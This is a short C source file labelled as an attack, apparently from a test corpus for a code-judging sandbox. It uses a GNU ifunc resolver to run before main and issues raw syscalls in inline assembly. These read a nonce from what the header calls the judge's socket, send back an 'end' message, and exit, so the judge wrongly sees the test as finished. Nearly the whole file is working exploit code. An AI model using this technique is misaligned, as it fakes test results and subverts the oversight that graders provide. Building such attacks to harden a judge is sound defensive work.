/* Attack: code that the dynamic loader runs before main, to find out which function is meant: it has
 * the judge's socket to itself, reads the nonce, and says that the test has come to its end.
 * Labs: 08
 * Isolated: no
 * Builds: no */
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void nothing(void)
{
}

static void *choose(void)
{
    char message[100] = "end ";
    long length;

    __asm__ volatile("mov $45, %%eax\n mov $200, %%edi\n mov $64, %%edx\n xor %%r10, %%r10\n"
                     "xor %%r8, %%r8\n xor %%r9, %%r9\n syscall"
                     : "=a"(length)
                     : "S"(message + 4)
                     : "rdi", "rdx", "r10", "r8", "r9", "rcx", "r11", "memory");
    __asm__ volatile("mov $44, %%eax\n mov $200, %%edi\n xor %%r10, %%r10\n"
                     "xor %%r8, %%r8\n xor %%r9, %%r9\n syscall\n"
                     "mov $231, %%eax\n xor %%edi, %%edi\n syscall"
                     :
                     : "S"(message), "d"(length + 4)
                     : "rax", "rdi", "r10", "r8", "r9", "rcx", "r11", "memory");
    return nothing;
}

static void chosen(void) __attribute__((ifunc("choose"), used));

static void attack(void)
{
    chosen();
}
